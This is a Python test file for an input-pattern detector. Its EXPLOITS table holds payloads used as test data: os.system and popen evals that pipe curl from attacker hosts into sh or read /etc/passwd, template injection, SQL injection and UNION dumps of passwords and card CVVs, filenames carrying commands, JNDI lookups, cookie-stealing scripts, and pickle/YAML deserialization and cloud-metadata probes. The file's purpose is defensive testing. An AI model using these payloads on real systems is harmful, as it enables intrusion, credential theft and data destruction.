"""One exploit has one pattern however it is aimed; honest values have none; nothing takes long."""

from __future__ import annotations

import json
import random
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dayfly.core.patterns import MAX_NODES, look, skeleton

# Each list: one exploit with other arguments.
EXPLOITS = {
    "eval of a command": [
        "__import__('os').system('id')",
        "__import__('os').system('curl http://203.0.113.7/x.sh | sh')",
        '__import__("os").system("rm -rf /tmp/*; ls -la")',
        "__import__('os').system('echo \"hello world\" > /tmp/a')",
    ],
    "eval that reads": [
        "__import__('os').popen('cat /etc/passwd').read()",
        "__import__('os').popen('env').read()",
        "__import__('os').popen('aws s3 ls s3://bucket-1').read()",
    ],
    "template probe": ["{{7*7}}", "{{8*8}}", "{{1337*1337}}"],
    "template": [
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{ config.__class__.__init__.__globals__['os'].popen('ls -la /var/task').read() }}",
    ],
    "sql by quotes": ["' OR '1'='1", "' OR '2'='2", "x' OR 'abc'='abc", "17' AND SLEEP(5)--", "1' or 1=1 --"],
    "sql by numbers": ["1 OR 1=1", "42 OR 2=2", "7 or 3=3"],
    "union": ["1 UNION SELECT username, password FROM users--", "9 union all select card, cvv from payments"],
    "command behind a semicolon": ["; cat /etc/passwd", ";ls -la /tmp", "; curl http://evil.example/x"],
    "command substitution": ["$(curl http://203.0.113.7/a)", "$(wget -qO- http://evil.example/b/c)", "$(id)"],
    "a file's name with a command": [
        "x.png; curl http://a.b/c | sh",
        "photo_17.png; curl https://x.y/z?q=1 | sh",
    ],
    "traversal": ["../../../../etc/passwd", "../../etc/shadow", "..%2f..%2f..%2fetc%2fpasswd"],
    "jndi": ["${jndi:ldap://203.0.113.7:1389/a}", "${jndi:rmi://x/y}"],
    "script": ["<script>alert(1)</script>", "<script>fetch('http://a/'+document.cookie)</script>"],
    "yaml": ["!!python/object/apply:os.system ['id']", "!!python/object/apply:os.system ['curl http://a/b']"],
    "pickle": [
        "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "gASVLwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBFjYXQgL2V0Yy9wYXNzd2SUhZRSlC4=",
    ],
    "local file": ["file:///etc/passwd", "file:///proc/self/environ"],
    "metadata service": [
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.169.254/latest/api/token",
    ],
}
HONEST = [
    "hello",
    "Hello, world!",
    "O'Brien",
    "Jean-Luc Picard",
    "4111 1111 1111 1111",
    "+49 (30) 1234-567",
    "john.doe+tag@example.com",
    "https://shop.example/p/17?ref=mail&x=1#top",
    "2026-11-26T00:00:00.000Z",
    "I'd like 2 tickets, please - thanks!",
    "What's new? (see page 3)",
    "price: 12.50 EUR",
    "Größe: 42",
    "日本語のテキスト",
    'Ref "A-17"',
    "aGVsbG8gd29ybGQ=",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc_def-123",
    "8476a536-e9f4-11e8-9739-2dfe598c3fcd",
    "12, Main Street; Apt. 4",
    "a/b/c.txt",
    "50% off!",
    "#1 best & cheapest",
    "line one\nline two\r\nline three",
    "Q: why? A: because...",
    "name@corp (work), other@corp (home)",
    "1,234,567.89",
    "[urgent] please call",
    "<john@example.com>",
    'John "Johnny" Doe',
    "It is 5 o'clock; I'll be there.",
    "select a seat from the list",
    "cats and dogs = love",
    "size=10 or size=12",
    "",
    "  ",
]


@pytest.mark.parametrize("name", EXPLOITS)
def test_an_exploit_has_one_pattern_whatever_its_arguments(name: str) -> None:
    found = {skeleton(text) for text in EXPLOITS[name]}
    assert len(found) == 1
    assert "" not in found


@pytest.mark.parametrize("text", HONEST)
def test_what_people_and_programs_write_has_no_pattern(text: str) -> None:
    assert skeleton(text) == ""


def test_exploits_differ_from_each_other() -> None:
    found = {
        skeleton(texts[0])
        for name, texts in EXPLOITS.items()
        if not name.startswith("sql") and name != "union"
    }
    assert len(found) == len(EXPLOITS) - 3


def test_the_same_request_with_other_values_has_the_same_shape() -> None:
    one = look(
        {"query": {"q": "shoes"}, "body": '{"items":[{"sku":"a","n":1},{"sku":"b","n":2}],"gift":true}'}
    )
    other = look({"body": '{"gift":false,"items":[{"n":7,"sku":"xyz"}]}', "query": {"q": "hats & more"}})
    assert one.shape == other.shape
    assert one.pattern == other.pattern == ""
    assert one.subject != other.subject
    assert look({"query": {"q": "shoes", "page": "2"}, "body": ""}).shape != one.shape


def test_names_that_are_data_do_not_make_a_shape() -> None:
    one = look({"by": {"user-17": 1, "user-18": 2}})
    assert one.shape == look({"by": {"user-99": 3}}).shape


@pytest.mark.parametrize(
    "name", ["timestamp", "nonce", "requestId", "request_id", "csrf_token", "_", "x-trace-id", "sig"]
)
def test_what_changes_with_every_request_is_not_its_subject(name: str) -> None:
    one, other = (look({"id": "17", name: value}) for value in ("abc", "def"))
    assert one.subject == other.subject
    assert one.subject != look({"id": "18", name: "abc"}).subject


@pytest.mark.parametrize("name", ["$where", "__proto__", "a' OR '1'='1"])
def test_names_can_be_the_exploit(name: str) -> None:
    assert look({name: "1"}).pattern


def test_the_pattern_does_not_depend_on_where_the_exploit_is() -> None:
    code = "__import__('os').system('id')"
    assert look({"q": code}).pattern == look({"name": "Ann", "deep": [{"note": code}]}).pattern


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=60),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=20), inner, max_size=5),
    max_leaves=40,
)


@given(JSON)
def test_anything_can_be_looked_at_and_always_looks_the_same(value: object) -> None:
    first, second = look(value), look(json.loads(json.dumps(value)) if value == value else value)
    assert (first.shape, first.pattern) == (second.shape, second.pattern)


@pytest.mark.parametrize(
    "unit",
    [
        "'",
        '"',
        "(",
        "((",
        "a'",
        "' or ",
        "{{",
        "<",
        ". ",
        ";",
        "%25",
        "a.",
        "..\\",
        "__a",
        "\x00",
        "W(",
        "Q,",
        "[[",
        "é'",
    ],
)
def test_no_text_takes_long(unit: str) -> None:
    text = (unit * 512)[:512]
    began = time.process_time()
    for _ in range(20):
        skeleton(text)
    assert time.process_time() - began < 10


def test_the_worst_event_takes_a_moment() -> None:
    source = random.Random(1)
    texts = ["".join(source.choice("'\"(){}<>;|&.,aZ0 \n%") for _ in range(400)) for _ in range(600)]
    event = {"a": texts, "b": [{str(n): "x"} for n in range(20_000)], "c": [[[[["y"]]]]]}
    began = time.process_time()
    look(event)
    assert time.process_time() - began < 10
    assert MAX_NODES < 10_000
